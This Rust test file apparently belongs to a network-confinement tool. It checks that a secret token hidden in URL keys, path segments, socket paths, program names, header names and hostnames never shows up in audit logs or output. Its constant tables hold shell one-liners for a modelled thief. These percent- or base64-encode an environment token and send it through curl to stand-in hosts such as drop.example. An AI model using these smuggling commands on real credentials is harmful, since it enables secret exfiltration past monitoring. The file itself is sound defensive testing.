//! A value that is found in what a command names, not in what it sends: keys, paths,
//! hosts, fields, sockets, programs. Whatever becomes of the request, nobody reads
//! the value afterwards: not in the record, not on the terminal, not in the answer.

use std::fs;
use std::os::unix::net::UnixListener;

use outgate_harness::{Identity, Lab, Outcome, lab_tests};

use crate::{Credential, bash, confined, thief};

/// A value of the user's, of letters that every name may have.
const VALUE: &str = "nb5tw9rlx2kd7qvz4mjc8hs3";

/// How a thief writes `$T` down, as `$V`.
const CODINGS: &[(&str, &str)] = &[
    ("plain", "V=$T"),
    (
        "percent",
        "V=$(printf %s \"$T\" | od -An -v -tx1 | tr -d '\\n' | sed 's/ /%/g')",
    ),
    (
        "base 64",
        "V=$(printf 'x%s' \"$T\" | base64 -w0 | tr -d '=\\n')",
    ),
];

/// What a thief does with `$V`, in whatever coding.
const PLACES: &[(&str, &str)] = &[
    ("query key", "curl -gsSi \"$URL/x?$V=1\""),
    ("second key", "curl -gsSi \"$URL/x?a=1&b[$V]=1\""),
    ("segment", "curl -gsSi \"$URL/x/$V/y\""),
    ("denied segment", "curl -gsSi \"$URL/denied/$V/y\""),
    ("file name", "curl -gsSi \"$URL/x/$V.json\""),
    (
        "socket",
        "curl -gsSi --max-time 5 --unix-socket \"$SOCKETS/$V/s\" http://x.example/",
    ),
    (
        "program",
        "rm -rf \"./$V\"; cp \"$(command -v curl)\" \"./$V\"; \"./$V\" -gsSi $URL/",
    ),
    (
        "directory of a program",
        "rm -rf \"./$V\"; mkdir -p \"./$V\"; cp \"$(command -v curl)\" \"./$V/c\"; \"./$V/c\" -gsSi $URL/",
    ),
    (
        "parent",
        "rm -rf \"./$V\"; cp \"$(command -v bash)\" \"./$V\"; \"./$V\" -c \"curl -gsSi $URL/; true\"",
    ),
];

/// The same where a name takes letters and digits alone.
const NAMES: &[(&str, &str)] = &[
    ("field name", "curl -gsSi -H \"$T: 1\" $URL/"),
    ("field name and value", "curl -gsSi -H \"$T: $T\" $URL/"),
    (
        "host below an allowed one",
        "curl -gsSi --max-time 5 http://$T.drop.example:8099/",
    ),
    (
        "denied host",
        "curl -gsSi --max-time 5 http://$T.elsewhere.example/",
    ),
    (
        "Host field",
        "curl -gsSi -H \"Host: $T.drop.example:8099\" $URL/",
    ),
    (
        "whole target",
        "curl -gsSi --request-target \"http://$T.drop.example:8099/\" $URL/",
    ),
];

/// In two pieces behind each other.
const PIECES: &[(&str, &str)] = &[
    ("two keys", "curl -gsSi \"$URL/x?$A=1&$B=2\""),
    ("two segments", "curl -gsSi \"$URL/$A/$B\""),
    (
        "two labels",
        "curl -gsSi --max-time 5 http://$A.$B.drop.example:8099/",
    ),
    (
        "two labels of a denied host",
        "curl -gsSi --max-time 5 http://$A.$B.elsewhere.example/",
    ),
    (
        "two directories",
        "mkdir -p \"./$A\"; cp \"$(command -v curl)\" \"./$A/$B\"; \"./$A/$B\" -gsSi $URL/",
    ),
];

/// Fails where eight bytes of the value, in any case, stand in a text.
fn assert_nowhere(text: &str, value: &str, place: &str) {
    let text = text.to_lowercase();
    let value = value.to_lowercase();
    for start in 0..=value.len() - 8 {
        let piece = &value[start..start + 8];
        assert!(!text.contains(piece), "{place}: `{piece}` in {text}");
    }
}

/// What is ours in what a run says, and the answers that its clients print.
fn said(outcome: &Outcome) -> String {
    let lines = outcome.stderr.lines();
    let ours = lines.filter(|line| line.contains("outgate") || line.starts_with("  "));
    let ours: Vec<&str> = ours.collect();
    format!("{}\n{}", ours.join("\n"), outcome.stdout)
}

/// Runs a script with a value, and looks for it everywhere.
fn attempt(lab: &Lab, (value, script): (&str, &str), place: &str) {
    let file = lab.folder("records", Identity::Own).join("masks.jsonl");
    fs::remove_file(&file).ok();
    let outcome = confined(lab, Identity::Own)
        .allow("http://*.drop.example:8099")
        .deny("* */denied/**")
        .environment("MYCORP_TOKEN", VALUE)
        .option("--audit", &file.to_string_lossy())
        .run(&bash(script));
    let record = fs::read_to_string(&file).expect("the record");
    assert!(record.lines().count() > 2, "{place}: {record}\n{outcome}");
    assert_nowhere(&record, value, place);
    assert_nowhere(&said(&outcome), value, place);
}

lab_tests! {
    fn a_value_in_a_name_is_shown_to_nobody(lab) {
        let thief = thief();
        let credential = Credential::new();
        for value in [VALUE, credential.text()] {
            for (coding, code) in CODINGS {
                let sockets = lab.folder("given", Identity::Own);
                let path = std::process::Command::new("bash")
                    .args(["-c", &format!("T='{value}'; {code}; printf %s \"$V\"")])
                    .output()
                    .expect("bash");
                let coded = String::from_utf8(path.stdout).expect("a name");
                let folder = sockets.join(&coded);
                fs::create_dir_all(&folder).expect("a folder");
                fs::remove_file(folder.join("s")).ok();
                // A long name does not fit into an address (unix(7)).
                let socket = UnixListener::bind(folder.join("s")).ok();
                assert!(socket.is_some() || coded.len() > VALUE.len(), "a socket");
                for (name, script) in PLACES {
                    if socket.is_none() && script.contains("$SOCKETS") {
                        continue;
                    }
                    let place = format!("{name}, {coding}");
                    let sockets = sockets.display();
                    let script = format!("T='{value}'; SOCKETS='{sockets}'; {code}; {script}");
                    attempt(lab, (value, &script), &place);
                }
                drop(socket);
            }
        }
        for (name, script) in NAMES {
            attempt(lab, (VALUE, &format!("T='{VALUE}'; {script}")), name);
        }
        thief.take();
    }

    fn a_value_in_two_names_is_shown_to_nobody(lab) {
        let thief = thief();
        for (name, script) in PIECES {
            let credential = Credential::new();
            let (front, back) = credential.text().split_at(22);
            // Each piece is longer than what must not be shown.
            let script = format!("A='{front}'; B='{back}'; {script}");
            attempt(lab, (credential.text(), &script), name);
        }
        thief.take();
    }
}
